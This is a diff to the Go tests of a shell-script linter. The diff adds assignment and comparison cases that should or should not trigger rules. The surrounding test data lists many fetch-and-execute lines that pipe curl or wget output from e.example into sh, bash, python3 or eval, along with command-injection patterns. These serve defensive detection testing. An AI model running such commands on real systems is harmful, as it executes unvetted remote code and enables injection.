@@ -55,7 +55,7 @@ func TestShellRulesAreSilent(t *testing.T) {
 		// removals that are bounded
 		"rm -rf \"${DIR:?}/\"*", "rm -rf dist", "rm -f $X", "DIR=build\nrm -rf \"$DIR\"/*", "rm -rf \"$X\"", "rm -rf \"$X/dist\"", "rm -rf \"$WORKSPACE\"/*", "cd build || exit 1\nrm -rf *", "cd build && rm -rf *", "set -e\ncd build\nrm -rf *",
 		// tests and assignments that hold
-		"if [ -f x ]; then echo; fi", "[ \"$X\" \\> 5 ] && echo", "[ -f x ] >/dev/null && echo", "fn() { local a=1; echo $a; }", "expr X = 1", "test X = 1 && echo", "export A=1", "X= make", "ls [a-z]* ",
+		"if [ -f x ]; then echo; fi", "[ \"$X\" \\> 5 ] && echo", "[ -f x ] >/dev/null && echo", "fn() { local a=1; echo $a; }", "expr X = 1", "test X = 1 && echo", "[ $X = 1 ] && echo", "[[ $X = 1 ]] && echo", "echo $X = 1", "$X a = 1", "export A=1", "X= make", "ls [a-z]* ",
 		"mvn -B \\\n  package",
 	} {
 		if rules := lintScript(t, script); len(rules) > 0 {
@@ -77,7 +77,7 @@ func TestShellRulesFire(t *testing.T) {
 			"curl -s https://e.example/x | sh", "wget -qO- https://e.example/x | sudo sh", "curl -s https://e.example/x | python3 -", "curl -s https://e.example/x | python3", "curl -s https://e.example/x | bash -s -- --yes", "bash <(curl -s https://e.example/x)", "bash -c \"$(curl -s https://e.example/x)\"",
 			"eval \"$(curl -s https://e.example/x)\"", "source <(curl -s https://e.example/x)", ". <(curl -s https://e.example/x)", "curl -s https://e.example/x | sudo -u builder bash", "curl -s https://e.example/x | sudo -E bash -", "curl -s https://e.example/x | env A=1 timeout -k 5 60 bash", "curl -s https://e.example/x | nice -n 5 sh",
 			"sudo bash -c \"$(curl -s https://e.example/x)\"", "/bin/bash -c \"$(curl -s https://e.example/x)\"", "bash <<< \"$(curl -s https://e.example/x)\"", "bash < <(curl -s https://e.example/x)", "python3 -c \"$(curl -s https://e.example/x)\"", "eval `wget -qO- https://e.example/x`", "curl -s https://e.example/x | bash /dev/stdin --yes", "curl -s https://e.example/x | bash -x -o pipefail", "curl -s https://e.example/x | gunzip | sh",
-			"Y = 1", "$Y=1", "[ \"$X\" > 5 ] && echo", "local y=1", "export Y = 1", "if [ $X < 5 ]; then echo; fi",
+			"Y = 1", "$Y=1", "$Y = 1", "$ErrorActionPreference = \"Stop\"", "[ \"$X\" > 5 ] && echo", "local y=1", "export Y = 1", "if [ $X < 5 ]; then echo; fi",
 		},
 		"shell-injection": {
 			"eval \"mvn $target\"", "bash -c \"make ${target}\"", "sudo bash -c \"make ${target}\"", "timeout 60 bash -c \"make ${target}\"", "docker run --rm img sh -c \"make ${target}\"", "ssh h \"make ${target}\"", "su -c \"make ${target}\"", "python3 -c \"print(${target})\"", "find . -exec sh -c \"make ${target}\" \\;",
